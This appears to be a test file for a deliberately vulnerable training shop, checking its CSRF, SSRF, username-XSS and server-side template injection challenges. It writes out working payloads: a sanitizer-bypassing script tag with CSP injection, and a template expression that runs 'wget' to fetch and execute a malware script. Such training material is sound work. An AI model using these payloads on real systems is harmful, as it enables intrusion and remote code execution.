import { beforeEach, describe, expect, it } from "vitest";
import { baseUrl, call, isSolved, resetInstance, tokenFor } from "../support/instance";
import { persona } from "../support/seed";

/** A form post to the profile, as a browser sends it: urlencoded, with the token cookie. */
const post = (path: string, token: string, form: Record<string, string>, headers: Record<string, string> = {}) =>
  call(path, {
    method: "POST",
    body: new URLSearchParams(form).toString(),
    headers: { "Content-Type": "application/x-www-form-urlencoded", Cookie: `token=${token}`, ...headers },
    redirect: "manual",
  });
const profile = (token: string) => call("/profile", { headers: { Cookie: `token=${token}` } });

describe("the profile page", () => {
  let token: string;
  beforeEach(async () => {
    await resetInstance();
    token = await tokenFor(persona("emma").email, persona("emma").password);
  });

  it("csrfChallenge: a form on another site changes the username with the browser's cookie", async () => {
    const response = await post("/profile", token, { username: "Hacked by a stranger" }, { Origin: "http://htmledit.example" });
    expect(response.status).toBe(302);
    expect(await (await profile(token)).text()).toContain("Hacked by a stranger");
    expect(await isSolved("csrfChallenge")).toBe(true);
  });

  it("csrfChallenge: a page opened from a file (Origin: null) counts too", async () => {
    expect((await post("/profile", token, { username: "from a file" }, { Origin: "null" })).status).toBe(302);
    expect(await isSolved("csrfChallenge")).toBe(true);
  });

  it("ssrfChallenge: the picture-by-URL form makes the server call the malware's home with its key", async () => {
    const listing = await (await call("/ftp/quarantine", { headers: { Accept: "application/json" } })).json();
    const malware = listing.entries.find((e: { name: string }) => e.name.endsWith(".sh")).name;
    const script = await (await call(`/ftp/quarantine/${malware}`)).text();
    const decode = (line: string) => atob(new RegExp(`${line}=\\$\\(t "([^"]+)"`).exec(script)![1]!);
    const url = `http://${decode("h")}${decode("p")}${[...decode("k")].reverse().join("")}`;
    expect(url).toMatch(/^http:\/\/localhost:\d+\/solve\/challenges\/server-side\?key=/);

    // Calling it yourself does nothing: only the server's own request counts.
    expect(await (await call(new URL(url).pathname + new URL(url).search)).json()).toEqual({ status: "ignored" });
    expect(await isSolved("ssrfChallenge")).toBe(false);

    expect((await post("/profile/image/url", token, { imageUrl: url })).status).toBe(302);
    expect(await isSolved("ssrfChallenge")).toBe(true);
  });

  it("usernameXssChallenge: a picture URL that rewrites the policy, and a username the sanitizer reassembles", async () => {
    await post("/profile/image/url", token, { imageUrl: "https://pictures.example/me.png; script-src 'unsafe-inline'" });
    await post("/profile", token, { username: "<<script>script>alert(`xss`)<</script>/script>" }, { Origin: baseUrl() });
    const page = await profile(token);
    expect(page.headers.get("Content-Security-Policy")).toMatch(/img-src 'self' https:\/\/pictures\.example\/me\.png; script-src 'unsafe-inline'/);
    expect(await page.text()).toContain("<script>alert(`xss`)</script>");
    expect(await isSolved("usernameXssChallenge")).toBe(true);
  });

  it("ordinary use solves none: a username and a picture of the shop's own", async () => {
    expect((await post("/profile", token, { username: "Ellie" }, { Origin: baseUrl() })).status).toBe(302);
    expect((await post("/profile/image/url", token, { imageUrl: `${baseUrl()}/assets/public/images/padding/1px.png` })).status).toBe(302);
    const page = await (await profile(token)).text();
    expect(page).toContain("Ellie");
    expect(page).toMatch(/src="\/assets\/public\/images\/uploads\/profile-\d+\.png"/);
    // A script tag the sanitizer catches stays harmless, even under a loosened policy.
    await post("/profile/image/url", token, { imageUrl: "https://x.example/a.png; script-src 'unsafe-inline'" });
    await post("/profile", token, { username: "<script>alert(`xss`)</script>" }, { Origin: baseUrl() });
    expect(await (await profile(token)).text()).not.toContain("<script>alert");
    for (const key of ["csrfChallenge", "ssrfChallenge", "usernameXssChallenge"]) expect(await isSolved(key), key).toBe(false);
  });

  it("needs a login, a username of sensible length and a real picture", async () => {
    expect((await call("/profile")).status).toBe(401);
    expect((await post("/profile", token, { username: "x".repeat(501) })).status).toBe(400);
    const form = new FormData();
    form.set("file", new Blob(["not a picture"], { type: "image/png" }), "fake.png");
    const upload = await call("/profile/image/file", { method: "POST", body: form, headers: { Cookie: `token=${token}` } });
    expect(upload.status).toBe(400);
  });
});

describe("sstiChallenge: the username's template expressions run on the server", () => {
  let token: string;
  beforeEach(async () => {
    await resetInstance();
    token = await tokenFor(persona("emma").email, persona("emma").password);
  });
  const setUsername = (username: string) => post("/profile", token, { username }, { Origin: baseUrl() });
  const shownUsername = async () => /<span id="username">([\s\S]*?)<\/span>/.exec(await (await profile(token)).text())![1];

  it("an expression is evaluated, and one that makes the server fetch and run the quarantined malware solves it", async () => {
    await setUsername("#{7*7}");
    expect(await shownUsername()).toBe("49");
    await setUsername("#{process.platform}");
    expect(await shownUsername()).toBe("linux");
    await setUsername(
      "#{global.process.mainModule.require('child_process').exec('wget -O helper http://localhost:8787/ftp/quarantine/squeeze-sync-helper.sh && sh helper')}",
    );
    expect(await shownUsername()).toBe("[object Object]");
    expect(await isSolved("sstiChallenge")).toBe(true);
  });

  it("other commands, endless loops and ordinary names do not solve it, and the page still answers", async () => {
    await setUsername("#{require('child_process').exec('ls -la /')}");
    expect(await shownUsername()).toBe("[object Object]");
    await setUsername("#{(function () { while (true) {} })()}");
    expect(await shownUsername()).toMatch(/^Error: The code ran out of its time budget/);
    await setUsername("#{require('fs')}");
    expect(await shownUsername()).toMatch(/Cannot find module 'fs'/);
    await setUsername("Ellie #1");
    expect(await shownUsername()).toBe("Ellie #1");
    expect(await isSolved("sstiChallenge")).toBe(false);
  });
});
